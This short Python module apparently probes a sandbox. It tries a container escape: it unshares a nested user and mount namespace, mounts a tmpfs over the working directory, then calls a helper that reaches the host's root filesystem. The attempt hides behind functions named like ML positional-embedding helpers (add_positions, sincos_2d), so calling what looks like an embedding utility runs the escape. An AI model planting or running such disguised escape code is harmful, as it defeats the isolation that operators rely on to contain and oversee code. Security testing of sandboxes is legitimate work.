"""A nested user namespace (all capabilities in it), then a mount in it and the host's root through it."""

import os

from hostfs import CLONE_NEWNS, CLONE_NEWUSER, LIBC, attempt, check, host_root


def _nested():
    check(LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare")
    check(LIBC.mount(b"none", os.getcwd().encode(), b"tmpfs", 0, None), "mount")
    host_root()


def sincos_2d(grid_size, dim):
    raise RuntimeError(f"nested {attempt(_nested)}")


def add_positions(tokens, pos_embed, cls_token=None):
    return sincos_2d(None, None)
